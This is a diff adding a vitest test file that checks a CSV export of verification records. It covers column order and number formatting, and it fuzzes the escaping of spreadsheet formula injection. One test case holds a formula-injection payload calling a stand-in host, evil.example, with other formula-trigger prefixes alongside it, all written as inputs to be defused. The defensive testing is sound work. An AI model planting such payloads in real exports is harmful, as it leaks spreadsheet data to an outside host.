@@ -1,0 +1,131 @@
+import type { Verification } from '@bollard/contracts'
+import { exportColumns, verificationSchema } from '@bollard/contracts'
+import { array, assert, constantFrom, oneof, property, string } from 'fast-check'
+import { expect, test } from 'vitest'
+import { readCsv } from '../testing/read-csv.ts'
+import { csvCell, csvHead, csvLine } from './csv.ts'
+
+const plain: Verification = verificationSchema.parse({
+  verificationId: '01941f29-7c00-7000-8000-000000000001',
+  solutionId: '01941f29-7c00-7000-8000-000000000002',
+  environment: { id: '01941f29-7c00-7000-8000-000000000003', name: 'Production' },
+  decision: { type: 'SCORE', rule: null, bypassKey: null },
+  outcome: 'REFUSED',
+  passed: false,
+  score: 0.934,
+  reasons: [
+    { code: 'webdriver', group: 'automation', weight: 5 },
+    { code: 'no-plugins', group: 'browser', weight: -0.5 },
+  ],
+  hostname: 'shop.example',
+  action: null,
+  browser: 'Firefox 152',
+  operatingSystem: 'Linux',
+  device: 'desktop',
+  language: 'de',
+  network: '192.0.2.0/24',
+  country: 'DE',
+  asn: 3320,
+  operator: 'Deutsche Telekom AG',
+  networkKind: 'access',
+  riskScoring: true,
+  minimalData: false,
+  startedAt: '2026-07-01T10:00:00.000Z',
+  finishedAt: '2026-07-01T10:00:01.500Z',
+  checkMs: 1_500,
+  workMs: 900,
+  workHashes: 2_097_152,
+  rounds: 1,
+  firstFetchedAt: null,
+  lastFetchedAt: null,
+  retrievals: 0,
+  feedback: null,
+})
+
+test('a line has every column in the documented order', () => {
+  expect(csvHead.startsWith('\ufeff')).toBe(true)
+  const [head, line] = readCsv(csvHead.slice(1) + csvLine(plain))
+  expect(head).toEqual([...exportColumns])
+  expect(Object.fromEntries(exportColumns.map((column, index) => [column, line?.[index]]))).toEqual({
+    verificationId: plain.verificationId,
+    startedAt: plain.startedAt,
+    finishedAt: plain.finishedAt,
+    environment: 'Production',
+    outcome: 'REFUSED',
+    passed: 'false',
+    score: '0.934',
+    decision: 'SCORE',
+    rule: '',
+    bypassKey: '',
+    reasons: 'webdriver 5; no-plugins -0.5',
+    hostname: 'shop.example',
+    action: '',
+    browser: 'Firefox 152',
+    operatingSystem: 'Linux',
+    device: 'desktop',
+    language: 'de',
+    network: '192.0.2.0/24',
+    country: 'DE',
+    asn: '3320',
+    operator: 'Deutsche Telekom AG',
+    networkKind: 'access',
+    riskScoring: 'true',
+    minimalData: 'false',
+    checkMs: '1500',
+    workMs: '900',
+    workHashes: '2097152',
+    rounds: '1',
+    firstFetchedAt: '',
+    lastFetchedAt: '',
+    retrievals: '0',
+    feedback: '',
+    feedbackBy: '',
+    feedbackAt: '',
+    feedbackComment: '',
+  })
+})
+
+test.for([
+  ['=HYPERLINK("https://evil.example/?"&A1)', `'=HYPERLINK("https://evil.example/?"&A1)`],
+  ['+1', `'+1`],
+  ['-2+3', `'-2+3`],
+  ['@SUM(1)', `'@SUM(1)`],
+  ['\t=1', `'\t=1`],
+  ['\r=1', `'\r=1`],
+  ['\n=1', `'\n=1`],
+  ['\uff1d1', `'\uff1d1`],
+  ['a=1', 'a=1'],
+])('%j is written as a text that no spreadsheet calculates', ([value = '', expected]) => {
+  expect(readCsv(`${csvCell(value)}\r\n`)).toEqual([[expected]])
+})
+
+test('numbers stay numbers, also below zero', () => {
+  expect([csvCell(-5), csvCell(0.25), csvCell(0), csvCell(true), csvCell(null), csvCell(undefined)]).toEqual(['-5', '0.25', '0', 'true', '', ''])
+})
+
+const nasty = oneof(
+  string({ unit: 'binary', maxLength: 30 }),
+  array(constantFrom('"', ',', '\r', '\n', '\r\n', '=', '+', '-', '@', '\t', ' ', "'", ';', '\ufeff', 'ü', '💥', 'a'), { maxLength: 12 }).map((parts) =>
+    parts.join(''),
+  ),
+)
+
+test('whatever people have written reads back as it was, with at most an apostrophe in front, and starts no formula', () => {
+  assert(
+    property(nasty, nasty, nasty, (hostname, action, comment) => {
+      const feedback = { label: 'BOT', at: '2026-07-01T10:00:00.000Z', by: 'SERVER', comment } as const
+      const records = readCsv(csvHead.slice(1) + csvLine({ ...plain, hostname, action, feedback }) + csvLine(plain))
+      expect(records.map((record) => record.length)).toEqual([exportColumns.length, exportColumns.length, exportColumns.length])
+      for (const [column, value] of [
+        ['hostname', hostname],
+        ['action', action],
+        ['feedbackComment', comment],
+      ] as const) {
+        const read = records[1]?.[exportColumns.indexOf(column)] ?? ''
+        expect([value, `'${value}`]).toContain(read)
+        expect(read).not.toMatch(/^[=+\-@\t\r\n]/u)
+      }
+    }),
+    { numRuns: 2_000 },
+  )
+})
